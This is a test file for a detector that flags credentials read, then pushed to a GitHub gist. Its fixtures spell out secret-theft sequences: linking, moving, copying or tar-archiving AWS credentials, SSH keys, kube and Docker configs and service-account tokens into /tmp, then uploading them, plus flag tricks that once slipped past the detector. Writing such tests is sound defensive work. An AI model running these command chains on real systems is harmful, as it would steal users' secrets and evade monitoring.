/**
 * A credential linked or renamed under another name and pushed by that name (found by red-team review):
 * `ln ~/.aws/credentials /tmp/c` reads nothing, and `gh gist create /tmp/c` reads `/tmp/c`, so the push was
 * `low` where reading the file directly makes it `high`. The link's command line names its source.
 */
import { describe, expect, it } from 'vitest';
import { relinked } from '../../../src/correlate/relinks.js';

/** The source paths a cp/mv/ln/install command line names. */
const relinkedSources = (binary: string, args: string) => relinked(binary, args).sources;

import { brief, run, Scenario } from './builder.js';

/** `binary args` run first, then `gh gist create /tmp/c` reading /tmp/c. */
function relinkThenGist(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'prod', pod: 'api-1', name: 'api' });
  const sh = s.init(c);
  const ln = s.exec(c, binary, args, { parent: sh });
  s.wait(10).exit(ln).wait(2_000);
  const gh = s.exec(c, '/usr/bin/gh', 'gist create /tmp/c', { parent: sh });
  s.read(gh, '/tmp/c', 116).wait(200).exit(gh);
  return run(s.events).alerts;
}

describe('secrets linked or renamed before the push', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`a hard link to a credential counts as reading it (${source})`, () => {
      const alerts = relinkThenGist('/bin/ln', '/root/.aws/credentials /tmp/c', source);
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
      ]);
      expect(alerts[0]!.reads.sensitive).toEqual(['/root/.aws/credentials']);
    });
  }

  it('so do mv, cp --reflink, busybox ln and a relative source', () => {
    for (const [binary, args] of [
      ['/bin/mv', '-f /root/.ssh/id_ed25519 /tmp/c'],
      ['/bin/cp', '--reflink=always /root/.docker/config.json /tmp/c'],
      ['/bin/busybox', 'ln /root/.kube/config /tmp/c'],
      ['/bin/ln', '-t /tmp .git-credentials'],
      ['/bin/mv', '-ft /tmp /root/.config/gh/hosts.yml'],
    ] as const)
      expect(brief(relinkThenGist(binary, args))).toMatchObject([
        { rule: 'sensitive-read-then-push', severity: 'high' },
      ]);
  });

  // Found by review: the store renamed or linked whole, then its files read by their new names.
  it('so does a secret store moved or linked whole', () => {
    for (const [binary, args] of [
      ['/bin/mv', '/root/.aws /tmp/a'],
      ['/bin/mv', '/root/.ssh/ /tmp/a'],
      ['/bin/ln', '-s /root/.config/gh /tmp/a'],
      ['/bin/cp', '-al /var/run/secrets/kubernetes.io/serviceaccount /tmp/a'],
      ['/bin/mv', '.docker /tmp/a'],
    ] as const) {
      const alerts = relinkThenGist(binary, args);
      expect(brief(alerts), args).toMatchObject([{ rule: 'sensitive-read-then-push', severity: 'high' }]);
    }
  });

  it('moving a cache or config tree whole changes nothing', () => {
    for (const args of [
      '/root/.cache /builds/acme/app/.cache',
      '/root/.cargo /builds/acme/app/.cargo',
      '/root/.config /x',
    ])
      expect(brief(relinkThenGist('/bin/mv', args)), args).toMatchObject([{ rule: 'push-without-reads' }]);
  });

  it('links of ordinary files change nothing', () => {
    expect(brief(relinkThenGist('/bin/ln', '-sf /app/config.yaml /tmp/c'))).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'gh', destination: 'api.github.com' },
    ]);
  });

  it('reads sources, not destinations, from the command line', () => {
    expect(relinkedSources('/bin/ln', '-s /a /b')).toEqual(['/a']);
    expect(relinkedSources('/bin/mv', '/a /b /dir')).toEqual(['/a', '/b']);
    expect(relinkedSources('/bin/cp', '-t /dir -S .bak /a ./b')).toEqual(['/a', '/b']);
    expect(relinkedSources('/bin/cp', '--target-directory=/dir /a')).toEqual(['/a']);
    expect(relinkedSources('/bin/ln', '/a')).toEqual(['/a']);
    // An archive file tar creates holds a copy of its sources (workspace-copy-forms.test.ts); one to stdout or
    // an extraction names no copy.
    expect(relinkedSources('/usr/bin/tar', 'cf /x /a')).toEqual(['/a']);
    expect(relinkedSources('/usr/bin/tar', 'cf - /a')).toEqual([]);
    expect(relinkedSources('/usr/bin/tar', 'xf /x /a')).toEqual([]);
    // Found by review: bundled short options and abbreviated long ones hid the sources.
    expect(relinkedSources('/bin/mv', '-ft /tmp/x /a')).toEqual(['/a']);
    expect(relinkedSources('/bin/mv', '-ft/tmp/x /a')).toEqual(['/a']);
    expect(relinkedSources('/bin/cp', '-bS .old /a /b')).toEqual(['/a']);
    expect(relinkedSources('/bin/ln', '--target=/tmp/x /a /b')).toEqual(['/a', '/b']);
    expect(relinkedSources('/bin/ln', '--targ /tmp/x /a')).toEqual(['/a']);
    expect(relinkedSources('/bin/cp', '--suf .old /a /b')).toEqual(['/a']);
    expect(relinkedSources('/bin/cp', '-rf /a /b')).toEqual(['/a']);
    // Found by review: install copies as cp does; its -m, -o, -g take a value, and -d copies nothing.
    expect(relinkedSources('/usr/bin/install', '-m 600 -o root -g root /a /b')).toEqual(['/a']);
    expect(relinkedSources('/usr/bin/install', '-Dm600 --owner 0 /a /b')).toEqual(['/a']);
    expect(relinkedSources('/usr/bin/install', '--mode=0600 -t /dir /a')).toEqual(['/a']);
    expect(relinkedSources('/usr/bin/install', '-d -m 700 /a /b')).toEqual([]);
    expect(relinkedSources('/bin/busybox', 'install -dm700 /a')).toEqual([]);
  });

  it('so does install (found by review)', () => {
    expect(brief(relinkThenGist('/usr/bin/install', '-m 600 /root/.aws/credentials /tmp/c'))).toMatchObject([
      { rule: 'sensitive-read-then-push', severity: 'high' },
    ]);
  });
});

describe("an archive of a credential made with GNU tar's long options abbreviated", () => {
  // `--dir=DIR` is `--directory=DIR` to GNU tar (any prefix naming one option): the archive holds DIR/credentials.
  // Read as written, the name was the working directory's and the push low (found by review).
  it('counts as reading the credential', () => {
    const alerts = relinkThenGist('/usr/bin/tar', '--cre --file /tmp/c --dir=/root/.aws credentials');
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
    ]);
    expect(alerts[0]!.reads.sensitive).toEqual(['/root/.aws/credentials']);
  });
});
